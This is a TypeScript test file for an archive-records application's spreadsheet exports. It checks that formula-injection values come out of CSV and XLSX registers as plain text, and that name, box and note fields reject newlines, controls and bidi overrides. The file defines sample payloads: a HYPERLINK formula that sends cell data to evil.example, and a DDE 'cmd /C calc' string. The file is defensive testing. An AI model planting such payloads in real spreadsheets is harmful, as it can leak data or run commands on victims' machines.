/**
 * OWASP CSV injection: values typed at the counter (box, folder, shelf, the archive description, the
 * classification code) that a spreadsheet would run come out of every CSV and XLSX as plain text,
 * and real numbers stay numbers. One-line fields refuse line breaks, controls and bidi overrides in
 * the core itself (through dispatch, as every host calls it).
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { localDate } from '../../../shared/dates';
import { csvText } from '../../../electron/core/archive/csv';
import { neutraliseFormula } from '../../../electron/core/records/neutraliseFormula';
import { HEADER_ROW } from '../../../electron/core/records/registerWorkbook';
import { call, callError, openCore } from '../support/core';
import { tempDir } from '../support/tempDir';
import { formFor, intakeOf, must, setUpOperator, TestClock } from '../workflow/support';
import { closedCase, SERVED, writeArchiveSettings } from './support';
import { parseCsv } from './csvReader';

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = '@SUM(1)';
const ARITH = '-2+3';


async function hostileArchive() {
  const clock = new TestClock();
  const dir = await tempDir();
  await writeArchiveSettings(dir, { description: HYPERLINK, classificationCode: SUM });
  const core = await openCore(dir, clock.now);
  await setUpOperator(core);
  const id = await closedCase(core, clock, 'both', SERVED.slice(0, -1));
  const state = await call(core, 'workflow.open', { id, step: 9 });
  const at = clock.advance(2);
  const archived = formFor('archived', at);
  await call(core, 'workflow.complete', {
    id,
    revision: state.revision,
    payload: { ...archived, step: 9, physical: { box: CMD, folder: ARITH, shelf: HYPERLINK }, electronic: 'pending' },
    overrunReason: '',
  });
  return { core, id, today: localDate(clock.now(), 'WIB') };
}

describe('registers against formula injection (OWASP CSV injection)', () => {
  it('writes hostile box, folder, shelf, description and code as text in every CSV register, numbers as numbers', async () => {
    const { core, today } = await hostileArchive();
    const read = async (register: 'daftar_berkas' | 'daftar_isi_berkas' | 'fisik') => {
      const file = await call(core, 'registers.export', { from: today, to: today, format: 'csv', register });
      return parseCsv(Buffer.from(file.base64, 'base64').subarray(3).toString('utf8'), ';');
    };
    const fisik = await read('fisik');
    const row = must(fisik[1], 'physical register row');
    expect(row[3]).toBe(`'${CMD}`);
    expect(row[4]).toBe(`'${ARITH}`);
    expect(row[5]).toBe(`'${HYPERLINK}`);
    expect(row[1]?.startsWith(`'${HYPERLINK} — `)).toBe(true); // the uraian starts with the description

    const berkas = await read('daftar_berkas');
    const first = must(berkas[1], 'daftar berkas row');
    expect(first[0]).toBe('1'); // No.: a number, no quote
    expect(first[1]).toBe(`'${SUM}`);
    expect(first[4]?.startsWith(`'${HYPERLINK}`)).toBe(true);
    expect(first[6]).toMatch(/^\d+$/); // Jumlah Item
    // No cell of any register starts with a formula character.
    for (const sheet of [fisik, berkas, await read('daftar_isi_berkas')])
      for (const cells of sheet) for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes them as text in the XLSX workbook, read back with exceljs; numbers stay numbers', async () => {
    const { core, today } = await hostileArchive();
    const file = await call(core, 'registers.export', { from: today, to: today, format: 'xlsx', register: 'daftar_berkas' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(file.base64, 'base64') as unknown as ExcelJS.Buffer);
    const fisik = must(wb.getWorksheet('Daftar Arsip Fisik'), 'physical sheet');
    const row = fisik.getRow(HEADER_ROW + 1);
    expect(row.getCell(4).value).toBe(`'${CMD}`);
    expect(row.getCell(5).value).toBe(`'${ARITH}`);
    expect(row.getCell(6).value).toBe(`'${HYPERLINK}`);
    for (const c of [4, 5, 6]) {
      expect(row.getCell(c).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(c).formula).toBeUndefined();
    }
    const berkas = must(wb.getWorksheet('Daftar Berkas'), 'daftar berkas sheet');
    const first = berkas.getRow(HEADER_ROW + 1);
    expect(first.getCell(1).value).toBe(1);
    expect(first.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect(first.getCell(2).value).toBe(`'${SUM}`);
    expect(typeof first.getCell(7).value).toBe('number');
    for (const sheet of wb.worksheets)
      sheet.eachRow((r) =>
        r.eachCell((cell) => {
          expect(cell.type, cell.address).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value, cell.address).not.toMatch(/^[=+\-@\t\r]/);
        }),
      );
  });

  it('neutralises a leading tab or carriage return and the full-width forms, and leaves numbers and plain text alone', () => {
    expect(neutraliseFormula('\t=1+1')).toBe("'\t=1+1");
    expect(neutraliseFormula('\r=1+1')).toBe("'\r=1+1");
    expect(neutraliseFormula('＝1+1')).toBe("'＝1+1");
    expect(neutraliseFormula(-5)).toBe(-5);
    expect(neutraliseFormula(3.5)).toBe(3.5);
    expect(neutraliseFormula('B-12')).toBe('B-12');
    expect(neutraliseFormula('')).toBe('');
    expect(csvText([[HYPERLINK, '\tx', '\ry', -2, 'Lemari 2']], ';')).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klik"")";'\tx;"'\ry";-2;Lemari 2\r\n`);
  });
});

describe('one-line fields in the core', () => {
  it('refuses a newline or a bidi override in a name and a control in a box number, with Indonesian messages', async () => {
    const clock = new TestClock();
    const core = await openCore(await tempDir(), clock.now);
    await setUpOperator(core);
    const intake = intakeOf('reset_password');
    const newline = await callError(core, 'cases.create', { ...intake, requester: { ...intake.requester, name: 'Siti\nNurhaliza' } });
    expect(newline.code).toBe('invalid_input');
    expect(newline.fields?.['requester.name']).toBe('Nama tidak boleh berisi baris baru atau karakter kendali.');
    const bidi = await callError(core, 'cases.create', { ...intake, requester: { ...intake.requester, name: 'Siti \u202eilahruN' } });
    expect(bidi.fields?.['requester.name']).toBe('Nama tidak boleh berisi karakter pengatur arah teks (bidi).');
    expect((await call(core, 'cases.list', {})).items).toHaveLength(0);

    const id = await closedCase(core, clock, 'both', SERVED.slice(0, -1));
    const state = await call(core, 'workflow.open', { id, step: 9 });
    const payload = { step: 9 as const, physical: { box: 'B\t12', folder: 'F-034', shelf: 'Lemari 2' }, electronic: 'pending' as const, notes: 'Baris\n\u202edua' };
    const err = await callError(core, 'workflow.complete', { id, revision: state.revision, payload, overrunReason: '' });
    expect(err.fields?.['payload.physical.box']).toBe('Nomor boks tidak boleh berisi baris baru atau karakter kendali.');
    expect(err.fields?.['payload.notes']).toBe('Catatan tidak boleh berisi karakter pengatur arah teks (bidi).');
    expect((await call(core, 'workflow.state', { id })).step).toBe(9);
    // Notes keep their line breaks.
    await call(core, 'workflow.complete', { id, revision: state.revision, payload: { ...payload, physical: { ...payload.physical, box: 'B-12' }, notes: 'Baris satu\nBaris dua' }, overrunReason: '' });
    expect((await call(core, 'workflow.state', { id })).step).toBeNull();
  });
});
